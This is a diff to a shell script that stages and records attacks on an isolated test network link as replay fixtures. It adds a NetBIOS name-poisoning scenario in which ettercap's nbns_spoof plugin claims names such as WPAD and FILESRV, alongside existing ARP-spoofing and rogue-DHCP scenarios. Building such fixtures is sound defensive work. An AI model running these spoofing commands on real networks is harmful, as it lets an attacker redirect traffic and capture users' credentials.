@@ -3,7 +3,8 @@
 # record_link.sh SCENARIO...|all|list: attacks on one IPv4 link by packaged tools, recorded at the link's bridge into
 # tests/replay/<scenario>/input.pcap.
 #
-# Needs root and (Debian names): tcpdump iproute2 iputils-ping dsniff dnsmasq-base udhcpc.
+# Needs root and (Debian names): tcpdump iproute2 iputils-ping dsniff dnsmasq-base udhcpc
+# ettercap-text-only samba-common-bin.
 set -eu
 here=$(cd "$(dirname "$0")" && pwd)
 replay=$here/../replay
@@ -93,15 +94,35 @@ second_server() {
     stop_all
 }
 
+poisoned() { # ettercap says of names that are asked for that they are its own
+    local name names="FILESRV PRINTER7 WPAD INTRANET NAS-2 MAILBOX" set="/etc/netns/$prefix-evil/ettercap"
+    ip -n "$prefix-host" addr add 10.20.1.20/24 broadcast 10.20.1.255 dev e0
+    mkdir -p "$set" "$dir/smb"
+    cp -a /etc/ettercap/. "$set/"
+    for name in $names; do echo "$name 10.20.1.66"; done >"$set/etter.nbns"
+    printf '[global]\n lock directory = %s\n state directory = %s\n cache directory = %s\n private dir = %s\n' \
+        "$dir/smb" "$dir/smb" "$dir/smb" "$dir/smb" >"$dir/smb.conf"
+    { sleep 16 && echo q; } | ip netns exec "$prefix-evil" timeout -s KILL 25 ettercap -T -q -p -i e0 -P nbns_spoof >"$dir/ettercap.log" 2>&1 &
+    pids+=($!)
+    sleep 6
+    for name in $names; do
+        ip netns exec "$prefix-host" timeout 3 nmblookup -s "$dir/smb.conf" -B 10.20.1.255 "$name" >>"$dir/nmblookup.log" 2>&1 || true
+    done
+    [ -z "${XFL_DEBUG:-}" ] || cat "$dir/ettercap.log" "$dir/nmblookup.log"
+    wait "${pids[-1]}" || true
+    rm -rf "/etc/netns/$prefix-evil"
+}
+
 scenario() {
     case $1 in
+    name_poisoning_ettercap) record "$1" "udp port 137" poisoned ;;
     arp_spoof_dsniff) record "$1" "arp or icmp" between ;;
     rogue_dhcp_dnsmasq) record "$1" "udp port 67 or udp port 68" second_server ;;
     *) echo "record_link.sh: no scenario $1" >&2 && return 1 ;;
     esac
 }
 
-all="arp_spoof_dsniff rogue_dhcp_dnsmasq"
+all="arp_spoof_dsniff rogue_dhcp_dnsmasq name_poisoning_ettercap"
 case ${1:-list} in
 list) echo "$all" && exit ;;
 all) read -ra names <<<"$all" && set -- "${names[@]}" ;;
